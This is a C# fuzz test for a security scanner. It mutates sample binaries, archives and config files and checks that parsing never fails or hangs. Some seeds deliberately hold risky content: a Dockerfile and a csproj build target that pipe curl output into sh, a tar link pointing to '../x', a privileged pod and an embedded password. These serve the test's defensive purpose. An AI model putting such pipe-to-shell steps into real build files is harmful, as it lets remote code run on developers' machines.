using System.Diagnostics;
using System.Globalization;
using System.IO.Compression;
using SecurityToolchain.Scanning.Tests.Archives;

namespace SecurityToolchain.Scanning.Tests.Fuzzing;

/// <summary>
/// Feeds mutated files to every parser. Whatever the bytes, the engine returns: no exception, no defect of an analyzer, no hang.
/// The environment variable STC_FUZZ_INPUTS sets the number of inputs; a nightly run takes a million.
/// </summary>
[Collection(nameof(SerialCollection))]
public sealed class MutationFuzzTests
{
    private const int DefaultInputs = 50_000;

    private static readonly long[] Interesting = [0, 1, 2, 4, 8, 16, 64, 127, 128, 255, 256, 512, 4096, 32767, 32768, 65535, 65536, int.MaxValue, int.MinValue, uint.MaxValue, long.MaxValue, long.MinValue, -1, -2, -8];

    [Fact]
    public void Scan_MutatedFiles_NeverFailNorHang()
    {
        int inputs = int.TryParse(Environment.GetEnvironmentVariable("STC_FUZZ_INPUTS"), NumberStyles.None, CultureInfo.InvariantCulture, out int given) ? given : DefaultInputs;
        (string Name, byte[] Content)[] seeds = [.. Seeds()];
        var engine = new ScanEngine(new ScanOptions { KeepStrings = true, Limits = new ScanLimits { MaxStrings = 100, MaxTotalUncompressed = 4 << 20, MaxArchiveEntries = 200 } });
        ulong state = 0x5EED;
        long slowest = 0;
        string slowestName = "";
        for (int i = 0; i < inputs; i++)
        {
            (string name, byte[] seed) = seeds[i % seeds.Length];
            byte[] input = Mutate(seed, ref state);
            long started = Stopwatch.GetTimestamp();
            FileScanResult result = engine.ScanBytes(name, input);
            long milliseconds = (long)Stopwatch.GetElapsedTime(started).TotalMilliseconds;
            if (milliseconds > slowest)
                (slowest, slowestName) = (milliseconds, name);
            ScanIssue? defect = ArchiveTests.AllIssues(result).FirstOrDefault(static issue => issue.Kind == ScanIssueKind.EngineError);
            if (defect is not null)
            {
                string path = Path.Combine(Path.GetTempPath(), "stc-fuzz-" + Path.GetRandomFileName());
                File.WriteAllBytes(path, input);
                Assert.Fail($"input {i} of {name}: {defect.Message} (kept as {path})");
            }
        }

        // One second on an idle machine; a loaded one gets five before it counts as a hang.
        Assert.True(slowest < 5000, $"{slowestName} took {slowest} ms");
    }

    private static IEnumerable<(string Name, byte[] Content)> Seeds()
    {
        string here = Path.GetDirectoryName(typeof(MutationFuzzTests).Assembly.Location)!;
        yield return ("managed.dll", File.ReadAllBytes(Path.Combine(here, "xunit.abstractions.dll")));
        yield return ("resources.dll", Binaries.ResourceTests.Sample());
        yield return ("symbols.dll", Binaries.SymbolsTests.EmbeddedSample());
        yield return ("symbols.pdb", Binaries.SymbolsTests.Sample());
        yield return ("native.dll", FileTypes.FileTypeTests.MinimalPe());
        if (File.Exists("/bin/true"))
            yield return ("true", File.ReadAllBytes("/bin/true"));
        byte[] zip = new ZipBuilder().Add("a.txt", "hello"u8.ToArray()).Add("b/c.zip", new ZipBuilder().Add("d", new byte[500]).Build()).Build();
        yield return ("a.zip", zip);
        yield return ("a.tar", new TarBuilder().Add("a", [1, 2, 3]).Add("L", "name\0"u8.ToArray(), 'L').Add("x", "12 path=abc\n"u8.ToArray(), 'x').Add("l", [], '2', "../x").Build());
        using var gz = new MemoryStream();
        using (var gzip = new GZipStream(gz, CompressionLevel.Fastest, leaveOpen: true))
            gzip.Write(zip);
        yield return ("a.gz", gz.ToArray());
        yield return ("app.json", """{ "ConnectionStrings": { "a": "Server=x;Password=abcDEF123xyz" }, "b": [1, 2, { "c": null }] }"""u8.ToArray());
        yield return ("k8s.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: a\n    image: b:latest\n    securityContext: {privileged: true}\n"u8.ToArray());
        yield return ("Dockerfile", "FROM a:latest\nUSER root\nRUN curl http://x | sh\n"u8.ToArray());
        yield return ("a.csproj", "<Project><Target Name=\"x\"><Exec Command=\"curl x | sh\"/></Target></Project>"u8.ToArray());
        byte[] fat = [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 1, 1, 0, 0, 12, 0, 0, 0, 0, 0, 0, 0, 28, 0, 0, 0, 80, 0, 0, 0, 0, 0xCF, 0xFA, 0xED, 0xFE, 12, 0, 0, 1, 0, 0, 0, 0, 2, 0, 0, 0, 1, 0, 0, 0, .. new byte[60]];
        yield return ("macho", fat);
        yield return ("a.png", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. new byte[64], .. zip]);
    }

    private static byte[] Mutate(byte[] seed, ref ulong state)
    {
        byte[] bytes = [.. seed];
        int changes = 1 + (int)(Next(ref state) % 8);
        for (int i = 0; i < changes && bytes.Length > 8; i++)
        {
            // Headers decide more than bodies, so half of the changes go to the first kilobyte.
            int range = Next(ref state) % 2 == 0 ? Math.Min(1024, bytes.Length) : bytes.Length;
            int at = (int)(Next(ref state) % (ulong)range);
            long value = Interesting[Next(ref state) % (ulong)Interesting.Length];
            switch (Next(ref state) % 7)
            {
                case 0:
                    bytes[at] ^= (byte)(1 << (int)(Next(ref state) % 8));
                    break;
                case 1:
                    bytes[at] = (byte)(Next(ref state) % 256);
                    break;
                case 2 when at + 2 <= bytes.Length:
                    BitConverter.TryWriteBytes(bytes.AsSpan(at), unchecked((short)value));
                    break;
                case 3 when at + 4 <= bytes.Length:
                    BitConverter.TryWriteBytes(bytes.AsSpan(at), unchecked((int)value));
                    break;
                case 4 when at + 8 <= bytes.Length:
                    BitConverter.TryWriteBytes(bytes.AsSpan(at), value);
                    break;
                case 5:
                    bytes = bytes[..at];
                    break;
                case 6:
                    int from = (int)(Next(ref state) % (ulong)bytes.Length);
                    int length = Math.Min((int)(Next(ref state) % 64), bytes.Length - Math.Max(at, from));
                    bytes.AsSpan(from, length).CopyTo(bytes.AsSpan(at));
                    break;
            }
        }

        return bytes;
    }

    private static ulong Next(ref ulong state)
    {
        unchecked
        {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            return state >> 8;
        }
    }
}
